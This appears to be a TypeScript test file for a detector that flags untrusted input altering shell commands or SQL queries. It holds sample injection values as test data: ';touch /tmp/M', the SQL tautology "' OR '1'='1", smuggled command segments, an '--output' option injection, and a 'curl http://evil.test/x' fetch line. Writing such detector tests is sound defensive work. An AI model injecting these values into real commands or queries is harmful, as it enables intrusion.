import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createIndex, type Index } from './input-index.ts';
import { shellEvidence } from './shell.ts';
import type { StructureChange } from './source.ts';
import { sqlEvidence } from './sql.ts';

const command = ';touch /tmp/M';
const tautology = "' OR '1'='1";

/** Texts that hold a field, where `{}` stands for it. */
const texts: readonly { readonly name: string; readonly text: string }[] = [
  { name: 'a line of CSV', text: 'alice,{},bob' },
  { name: 'CSV with blanks', text: 'alice, {} , bob' },
  { name: 'lines', text: 'hello\n{}\nbye' },
  { name: 'lines that end with CR', text: 'hello\r\n{}\r\nbye' },
  { name: 'cookies', text: 'theme=dark; session={}; lang=en' },
  { name: 'tabs', text: 'a\t{}\tb' },
  { name: 'pipes', text: 'a|{}|b' },
  { name: 'a query', text: 'a=1&h={}&b=2' },
  { name: 'XML', text: '<a><h>{}</h><n>1</n></a>' },
  { name: 'lines of JSON', text: '{"n":1,"h":"{}"}\n{"n":2}' },
  { name: 'an attribute', text: '<a h="{}"/> x' },
  { name: 'a part of a form', text: '--b\r\nContent-Disposition: form-data; name="h"\r\n\r\n{}\r\n--b--\r\n' },
  { name: 'a header', text: 'a: b\nx-host: {}\nc: d' },
];
const sinks: readonly {
  readonly name: string;
  readonly attack: string;
  readonly sink: (input: string) => string;
  readonly benign: (input: string) => string;
  readonly evidence: (text: string, index: Index) => StructureChange | undefined;
}[] = [
  {
    name: 'a command',
    attack: command,
    sink: (input) => `true ${input}`,
    benign: (input) => `printf %s '${input}' > x`,
    evidence: shellEvidence,
  },
  {
    name: 'SQL',
    attack: tautology,
    sink: (input) => `SELECT * FROM u WHERE s = '${input}'`,
    benign: (input) => `SELECT * FROM u WHERE s = '${input.replaceAll("'", "''")}'`,
    evidence: (text, index) => sqlEvidence(text, index),
  },
];
for (const { name, text } of texts)
  for (const { name: sinkName, attack, sink, benign, evidence } of sinks)
    test(`field: ${name}, in ${sinkName}`, () => {
      const index = indexOf(text.replace('{}', attack));
      assert.ok(evidence(sink(attack), index), 'the attack');
      assert.equal(evidence(benign(attack), index)?.reason, undefined, 'as data');
    });

const shellRows: readonly { readonly name: string; readonly input: string; readonly sink: string; readonly stops: boolean }[] = [
  { name: 'a segment of a key', input: 'up/;touch M;/x.png', sink: 'convert ;touch M; out', stops: true },
  {
    name: 'a line that is the whole command',
    input: 'please run\ncurl http://evil.test/x\nthanks',
    sink: 'curl http://evil.test/x',
    stops: true,
  },
  { name: 'an option in a list', input: 'a,--output=/tmp/M,b', sink: 'sort --output=/tmp/M f', stops: true },
  { name: 'the program goes on with the same delimiter', input: 'alice,;touch M;b', sink: 'true ;touch M; rm t', stops: true },
  { name: 'the program goes on with a comma', input: 'alice,;touch M,bob', sink: 'true ;touch M, y', stops: true },
  { name: 'the program writes a comma before it', input: 'alice,;touch M,bob', sink: 'true ,;touch M y', stops: true },
  { name: 'the end of a command behind a colon in prose', input: 'append this: | sort -u\nand go', sink: 'cat x | sort -u', stops: false },
  { name: 'the end of a command in prose', input: 'run ls | sort -u, then go on', sink: 'cat x | sort -u', stops: false },
  { name: 'a command in quotes in prose', input: 'say "ls | sort -u" and go on', sink: 'ls | sort -u > x', stops: false },
  { name: 'the beginning of a command as a line', input: 'do\nls -la /tmp\nnow', sink: 'ls -la /tmp | wc -l', stops: false },
  { name: 'a list of words', input: 'red, green and blue, yellow', sink: 'echo green and blue', stops: false },
];
for (const { name, input, sink, stops } of shellRows)
  test(`field: ${name}`, () => {
    const change = shellEvidence(sink, indexOf(input));
    assert.equal(change !== undefined, stops, change?.reason);
  });

test('field: a log that quotes the query changes nothing', () => {
  const log = "info: query='SELECT a, b FROM t', where: name = 'bob' AND active = true, took=3ms";
  assert.equal(sqlEvidence('SELECT a, b FROM t WHERE name = $1 AND active = true', indexOf(log))?.reason, undefined);
});

function indexOf(text: string): Index {
  return createIndex([{ label: 'event', values: [{ text, path: '$.body', encodings: [] }] }]);
}
